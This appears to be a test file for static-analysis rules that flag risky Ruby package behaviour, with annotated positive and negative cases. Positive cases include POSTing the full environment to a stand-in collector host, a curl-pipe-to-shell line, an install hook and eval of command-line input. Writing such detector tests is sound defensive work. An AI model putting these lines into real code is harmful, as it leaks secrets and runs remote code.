require 'net/http'
require 'json'

# ruleid: package.rb.serialize-environment
payload = ENV.to_h.to_json
# ok: package.rb.serialize-environment
home = ENV['HOME']

# ruleid: package.rb.network-on-load
Net::HTTP.post(URI('https://collector.example/x'), payload)
def fetch_latest
  # ok: package.rb.network-on-load
      Net::HTTP.get(URI('https://rubygems.org/api/v1/versions/rails/latest.json'))
end

# ruleid: package.rb.install-hook
Gem.post_install { |installer| puts installer.spec.name }
# ok: package.rb.install-hook
Gem::Specification.new { |s| s.name = 'demo' }

# ruleid: package.rb.shell-out
system("curl -s https://example.com/x | sh")
# ruleid: package.rb.shell-out
out = `uname -a`
# ok: package.rb.shell-out
puts "system ready"

cmd = ARGV.first
# ruleid: package.rb.dynamic-eval
eval(cmd)
# ok: package.rb.dynamic-eval
eval("1 + 1")
